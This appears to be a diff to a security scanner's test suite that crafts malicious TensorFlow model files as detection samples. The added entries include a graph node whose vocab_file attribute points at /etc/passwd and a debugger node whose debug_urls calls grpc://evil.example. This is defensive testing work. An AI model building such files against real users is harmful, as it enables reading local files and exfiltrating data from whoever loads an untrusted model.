@@ -111,6 +111,15 @@ def frozen(nodes: bytes) -> bytes:
     return b"\x0a" + _length(len(nodes)) + nodes + b"\x22\x03\x08\xc8\x0e"
 
 
+def attribute(key: str, text: bytes, *, is_list: bool = False) -> bytes:
+    """Return an attribute of a node that is a text, or a list of one."""
+    value = b"\x12" + _length(len(text)) + text
+    if is_list:
+        value = b"\x0a" + _length(len(value)) + value
+    entry = b"\x0a" + _length(len(key)) + key.encode() + b"\x12" + _length(len(value)) + value
+    return b"\x2a" + _length(len(entry)) + entry
+
+
 def _length(length: int) -> bytes:
     """Return a number as protobuf writes it."""
     low, high = length & 0x7F, length >> 7
@@ -186,6 +195,10 @@ ATTACKS = [
     Attack("a Lambda layer in HDF5, where safe loading does not look", "CVE-2025-9905", file("a.h5", weights({"model_config": model(LAMBDA)})), CODE, "a.h5"),
     Attack("an operator that calls Python", "TensorFlow SECURITY.md", file("a.pb", frozen(node("PyFunc"))), CODE, "a.pb"),
     Attack("an operator of TensorFlow under another name in TFLite", "", file("a.tflite", flex("AddV2", "WriteFile")), CODE, "a.tflite"),
+    Attack("an operator that maps a file into memory", "", file("a.pb", frozen(node("ImmutableConst"))), CODE, "a.pb"),
+    Attack("an operator that calls another machine", "", file("a.pb", frozen(node("RpcCall"))), CODE, "a.pb"),
+    Attack("an operator whose attribute names a file", "", file("a.pb", frozen(node("FixedUnigramCandidateSampler") + attribute("vocab_file", b"/etc/passwd"))), CODE, "a.pb"),
+    Attack("a debugger that an operator talks to", "", file("a.pb", frozen(node("DebugNanCount") + attribute("debug_urls", b"grpc://evil.example:1", is_list=True))), CODE, "a.pb"),
     Attack("a graph of TensorFlow behind a field that no format has", "", file("notes.txt", UNKNOWN_FIELD + frozen(node("WriteFile"))), CODE, "notes.txt"),
     Attack("a graph of TensorFlow whose first node has a long name", "", file("notes.txt", frozen(LONG_NAME)), CODE, "notes.txt"),
     Attack("a graph of TensorFlow behind a field that no format has, in a zip", "", file("a.zip", deflated({"notes.txt": UNKNOWN_FIELD + frozen(node("WriteFile"))})), CODE, "a.zip"),
